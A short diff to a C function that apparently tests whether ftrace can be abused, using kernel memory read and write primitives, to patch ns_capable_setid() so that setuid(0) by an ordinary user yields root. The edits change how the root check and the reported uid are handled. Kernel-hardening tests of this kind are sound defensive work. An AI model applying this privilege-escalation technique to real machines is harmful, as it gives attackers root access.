@@ -72,7 +72,7 @@ enum outcome ftrace_anybody(void)
 	uint64_t old_class, old_pages, old_table;
 	unsigned char byte = 0, after = 0;
 	struct kernel_page page;
-	int fd, error, uid = getuid();
+	int fd, error;
 	bool root = false;
 
 	if (!event || !class || !pages || !table)
@@ -90,7 +90,7 @@ enum outcome ftrace_anybody(void)
 	error = errno;
 	kread(code, &byte, sizeof(byte));
 	if (byte == CALL)
-		root = !setuid(0) && !getuid();
+		root = is_root_for_the_asking();
 	close(fd);
 	kread(code, &after, sizeof(after));
 	kwrite64(event + EVENT_CLASS, old_class);
@@ -104,7 +104,7 @@ enum outcome ftrace_anybody(void)
 		return broken("the text was not put back");
 	if (!root)
 		return lost("the text was patched, and setuid(0) refused");
-	return won("ftrace patched ns_capable_setid() for a user's event: setuid(0) by uid=%d gave uid=0", uid);
+	return won("ftrace patched ns_capable_setid() for a user's event: setuid(0) by uid=%d is let through", getuid());
 }
 #else
 enum outcome ftrace_anybody(void)
